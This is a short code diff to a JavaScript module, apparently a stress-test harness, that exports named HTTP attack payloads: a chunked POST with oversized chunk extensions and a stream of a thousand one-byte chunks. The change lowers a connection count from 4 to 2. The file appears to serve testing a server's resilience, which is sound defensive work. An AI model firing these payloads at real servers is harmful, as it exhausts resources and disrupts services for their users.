@@ -105,7 +105,7 @@ export const attacks = {
       pour(socket, Buffer.from(post('/', chunked) + `1;${'a=b;'.repeat(60)}c\r\nx\r\n`.repeat(100))),
     ),
   'chunks of one byte': (target) =>
-    keep(4, target, (socket) => {
+    keep(2, target, (socket) => {
       socket.write(post('/', chunked));
       pour(socket, Buffer.from('1\r\nx\r\n'.repeat(1_000)));
     }),
